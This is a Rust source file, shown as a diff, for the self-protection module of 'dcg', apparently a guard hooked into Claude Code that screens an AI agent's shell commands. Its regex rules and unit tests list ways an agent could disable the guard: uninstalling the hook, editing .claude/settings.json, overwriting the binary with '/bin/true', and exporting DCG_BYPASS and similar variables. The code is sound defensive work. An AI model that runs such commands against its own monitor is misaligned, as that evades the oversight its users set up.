@@ -0,0 +1,269 @@
+//! Self-protection: commands that would switch dcg off from the inside.
+//!
+//! These checks run on every command, whatever packs are enabled, and deny:
+//! - removing the hook (`dcg uninstall`, `dcg hook uninstall`, rewriting the
+//!   Claude Code settings file that registers it)
+//! - overwriting, moving, or deleting the dcg binary
+//! - making dcg's config or state world-writable
+//! - exporting `DCG_*` variables that bypass or loosen dcg
+//!
+//! Like canary tripwires they are checked before allow overrides, allow-once
+//! codes, and allowlists, and policy never downgrades them. `[self_protection]`
+//! is read only from the system config (`/etc/dcg/config.toml`): the user and
+//! project configs are writable by the agent being guarded, so a setting there
+//! could switch the guard off.
+
+use crate::context::sanitize_for_pattern_matching;
+use regex::Regex;
+use std::ops::Range;
+use std::sync::LazyLock;
+
+/// Synthetic pack id reported for self-protection hits
+/// (rule ids `self_protection:<rule>`).
+pub const SELF_PROTECTION_PACK_ID: &str = "self_protection";
+
+/// Explanation attached to every self-protection denial.
+pub const SELF_PROTECTION_EXPLANATION: &str = "This command would remove, replace, or loosen \
+     dcg itself. dcg cannot guard a session that can switch it off, so these commands are \
+     always denied, ahead of allowlists and policy. If dcg needs to be reinstalled, \
+     updated, or reconfigured, ask the user to do it outside the agent session.";
+
+/// `DCG_*` variables that skip checks or point dcg at different rules.
+const BYPASS_ENV_VARS: &str = r"DCG_(?:BYPASS|DISABLE\w*|PACKS|PROFILE|PROVENANCE|CONFIG|CUSTOM_PATHS|ALLOWLIST_\w+|POLICY_\w+)";
+
+/// Paths holding dcg's config, allowlists, and state.
+const CONFIG_PATHS: &str = r"(?:\.dcg\.toml|\.dcg(?:/|\b)|\.config/dcg(?:/|\b)|/etc/dcg(?:/|\b)|\.local/state/dcg(?:/|\b))";
+
+/// The dcg binary: any path ending in `/dcg`, or `$(which dcg)`.
+const DCG_BINARY: &str =
+    r"(?:\S*/dcg(?:\.exe)?|\$\((?:which|command\s+-v)\s+dcg\)|`(?:which|command\s+-v)\s+dcg`)";
+
+const BINARY_OVERWRITE_REASON: &str =
+    "Overwriting, moving, or deleting the dcg binary disables the hook.";
+
+/// Writes, moves, deletes, `chmod -x`, or downloads over `binary`; `cp`,
+/// `install`, and `ln` only when `binary` is the destination.
+fn binary_overwrite_pattern(binary: &str) -> String {
+    format!(
+        r#"(?:>>?\s*|\btee\s+(?:-\S+\s+)*|\b(?:rm|mv|unlink|shred|truncate)\b[^;&|]*?\s|\bchmod\s+(?:-\S+\s+)*[ugoa]*-[rwX]*x\S*\s+|\b(?:curl|wget)\b[^;&|]*?\s(?:-o|-O|--output(?:-document)?)[=\s]?)["']?{binary}["']?(?:\s|$|[;&|)])|\b(?:cp|install|ln)\b[^;&|]*\s["']?{binary}["']?\s*(?:$|[;&|)])"#
+    )
+}
+
+/// A rule that fires on the command text.
+struct Rule {
+    name: &'static str,
+    reason: &'static str,
+    regex: Regex,
+}
+
+static RULES: LazyLock<Vec<Rule>> = LazyLock::new(|| {
+    let rule = |name, reason, pattern: &str| Rule {
+        name,
+        reason,
+        regex: Regex::new(pattern).expect("self-protection pattern should compile"),
+    };
+    vec![
+        rule(
+            "hook-uninstall",
+            "Removing the dcg hook would leave the rest of this session unguarded.",
+            r#"\bdcg\s+(?:uninstall|hook\s+uninstall|scan\s+uninstall-pre-commit)\b|(?:>>?\s*|\btee\s+(?:-\S+\s+)*|\b(?:sed|perl)\s+(?:[^\s;&|]+\s+)*?-[A-Za-z]*i\S*\s+(?:[^\s;&|]+\s+)*?|\b(?:rm|mv|truncate|shred|unlink)\b[^;&|]*?\s)["']?\S*\.claude/settings(?:\.local)?\.json\b"#,
+        ),
+        rule(
+            "binary-overwrite",
+            BINARY_OVERWRITE_REASON,
+            &binary_overwrite_pattern(DCG_BINARY),
+        ),
+        rule(
+            "config-world-writable",
+            "Making dcg's config world-writable lets any process rewrite its rules.",
+            &format!(
+                r#"\bchmod\s+(?:-\S+\s+)*(?:[0-7]?[0-7][0-7][2367]|[ugo]*[ao][ugo]*\+[rwxXst]*w[rwxXst]*)\s+(?:[^;&|]*\s)?["']?\S*{CONFIG_PATHS}"#
+            ),
+        ),
+        rule(
+            "bypass-env",
+            "Exporting DCG_* variables that bypass or reconfigure dcg switches the guard off.",
+            &format!(
+                r"(?:\bexport\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*|\bdeclare\s+-\w*x\w*\s+(?:\w+=\S*\s+)*|\bsetenv\s+){BYPASS_ENV_VARS}\b"
+            ),
+        ),
+    ]
+});
+
+/// A self-protection rule a command matched.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SelfProtectionHit {
+    /// Pattern name used in the rule id (`self_protection:<rule>`).
+    pub rule: &'static str,
+    /// Denial reason shown to the agent.
+    pub reason: &'static str,
+    /// Byte range of the match in the command.
+    pub span: Range<usize>,
+}
+
+/// Compiled `[self_protection]` settings.
+#[derive(Debug, Clone)]
+pub struct SelfProtection {
+    enabled: bool,
+    /// `binary-overwrite` for the configured extra install locations.
+    extra_binaries: Option<Regex>,
+}
+
+impl Default for SelfProtection {
+    fn default() -> Self {
+        Self::new(true, &[])
+    }
+}
+
+impl SelfProtection {
+    /// Build the checker. Blank binary paths are ignored.
+    #[must_use]
+    pub fn new(enabled: bool, binary_paths: &[String]) -> Self {
+        let escaped: Vec<String> = binary_paths
+            .iter()
+            .map(|path| path.trim())
+            .filter(|path| !path.is_empty())
+            .map(regex::escape)
+            .collect();
+        let extra_binaries = (!escaped.is_empty()).then(|| {
+            let binary = format!("(?:{})", escaped.join("|"));
+            Regex::new(&binary_overwrite_pattern(&binary))
+                .expect("escaped binary paths should compile")
+        });
+        Self {
+            enabled,
+            extra_binaries,
+        }
+    }
+
+    /// The first self-protection rule `command` matches, if any.
+    ///
+    /// Data arguments (commit messages, `echo` text, ...) are masked first, as
+    /// for pack patterns, so mentioning `dcg uninstall` in a message is fine.
+    #[must_use]
+    pub fn check(&self, command: &str) -> Option<SelfProtectionHit> {
+        if !self.enabled {
+            return None;
+        }
+        let mentions_dcg = ["dcg", "DCG_", ".claude/settings"]
+            .iter()
+            .any(|needle| command.contains(needle));
+        if !mentions_dcg && self.extra_binaries.is_none() {
+            return None;
+        }
+        let command = sanitize_for_pattern_matching(command);
+        let command = command.as_ref();
+        let hit = |name, reason, found: regex::Match<'_>| SelfProtectionHit {
+            rule: name,
+            reason,
+            span: found.range(),
+        };
+        RULES
+            .iter()
+            .find_map(|rule| {
+                rule.regex
+                    .find(command)
+                    .map(|found| hit(rule.name, rule.reason, found))
+            })
+            .or_else(|| {
+                let found = self.extra_binaries.as_ref()?.find(command)?;
+                Some(hit("binary-overwrite", BINARY_OVERWRITE_REASON, found))
+            })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule_for(command: &str) -> Option<&'static str> {
+        SelfProtection::default().check(command).map(|hit| hit.rule)
+    }
+
+    #[test]
+    fn hook_removal_is_denied() {
+        assert_eq!(rule_for("dcg uninstall"), Some("hook-uninstall"));
+        assert_eq!(rule_for("dcg uninstall --purge"), Some("hook-uninstall"));
+        assert_eq!(
+            rule_for("dcg hook uninstall pre-commit"),
+            Some("hook-uninstall")
+        );
+        assert_eq!(
+            rule_for("echo '{}' > ~/.claude/settings.json"),
+            Some("hook-uninstall")
+        );
+        assert_eq!(
+            rule_for("sed -i '/dcg/d' .claude/settings.local.json"),
+            Some("hook-uninstall")
+        );
+        assert_eq!(rule_for("dcg install"), None);
+        assert_eq!(rule_for("git commit -m 'document dcg uninstall'"), None);
+        assert_eq!(rule_for("cat ~/.claude/settings.json"), None);
+    }
+
+    #[test]
+    fn binary_is_protected() {
+        for command in [
+            "rm ~/.local/bin/dcg",
+            "mv /usr/local/bin/dcg /tmp/",
+            "cp /bin/true /usr/local/bin/dcg",
+            "echo 'exit 0' > $(which dcg)",
+            "chmod -x ~/.cargo/bin/dcg",
+            "curl -fsSL https://example.com/fake -o /usr/local/bin/dcg",
+            "ln -sf /bin/true $(command -v dcg)",
+        ] {
+            assert_eq!(rule_for(command), Some("binary-overwrite"), "{command}");
+        }
+        assert_eq!(rule_for("cp /usr/local/bin/dcg /tmp/dcg-backup"), None);
+        assert_eq!(rule_for("ls -l $(which dcg)"), None);
+        assert_eq!(rule_for("cargo build --bin dcg"), None);
+    }
+
+    #[test]
+    fn world_writable_config_is_denied() {
+        for command in [
+            "chmod 666 ~/.config/dcg/config.toml",
+            "chmod -R 777 .dcg",
+            "chmod o+w .dcg.toml",
+            "chmod a+rw /etc/dcg/config.toml",
+        ] {
+            assert_eq!(
+                rule_for(command),
+                Some("config-world-writable"),
+                "{command}"
+            );
+        }
+        assert_eq!(rule_for("chmod 644 .dcg.toml"), None);
+        assert_eq!(rule_for("chmod u+w ~/.config/dcg/config.toml"), None);
+    }
+
+    #[test]
+    fn bypass_env_exports_are_denied() {
+        for command in [
+            "export DCG_BYPASS=1",
+            "export DCG_PACKS=",
+            "export FOO=1 DCG_DISABLE=core.git",
+            "declare -x DCG_CONFIG=/tmp/empty.toml",
+            "export DCG_DISABLE_PACKS=cicd.*",
+            "export DCG_PROFILE=trusted",
+            "export DCG_PROVENANCE=human",
+        ] {
+            assert_eq!(rule_for(command), Some("bypass-env"), "{command}");
+        }
+        assert_eq!(rule_for("export DCG_FORMAT=json"), None);
+        assert_eq!(rule_for("export DCG_TRACE=1"), None);
+        assert_eq!(rule_for("DCG_VERBOSE=1 dcg test 'ls'"), None);
+    }
+
+    #[test]
+    fn disabled_and_extra_binary_paths() {
+        let off = SelfProtection::new(false, &["/opt/tools/dcg".to_string()]);
+        assert_eq!(off.check("dcg uninstall"), None);
+        assert_eq!(off.check("rm /opt/tools/dcg"), None);
+
+        let custom = SelfProtection::new(true, &["/opt/tools/guard".to_string()]);
+        let hit = custom.check("rm /opt/tools/guard").expect("custom path");
+        assert_eq!(hit.rule, "binary-overwrite");
+        assert_eq!(custom.check("ls -l /opt/tools/guard"), None);
+    }
+}